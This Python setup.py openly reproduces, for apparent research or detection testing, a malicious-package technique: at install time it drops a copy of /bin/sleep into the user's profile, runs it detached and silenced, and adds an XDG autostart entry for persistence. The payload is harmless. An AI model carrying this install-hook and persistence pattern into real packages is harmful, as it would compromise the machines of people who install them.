# Harmless reproduction of colorinal (termncolor, 2025): at build time,
# write a native payload (a copy of /bin/sleep) into the user's profile,
# run it detached and register an autostart entry.
import os
import shutil
import subprocess
from setuptools import setup

home = os.path.expanduser("~")
payload = os.path.join(home, ".local", "share", "colorinal", "terminate")
os.makedirs(os.path.dirname(payload), exist_ok=True)
shutil.copyfile("/bin/sleep", payload)
os.chmod(payload, 0o755)
subprocess.Popen([payload, "120"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
autostart = os.path.join(home, ".config", "autostart", "colorinal.desktop")
os.makedirs(os.path.dirname(autostart), exist_ok=True)
with open(autostart, "w") as f:
    f.write("[Desktop Entry]\nType=Application\nExec=%s 1\n" % payload)

setup(name="colorinalx", version="1.0.0", py_modules=["colorinalx"])
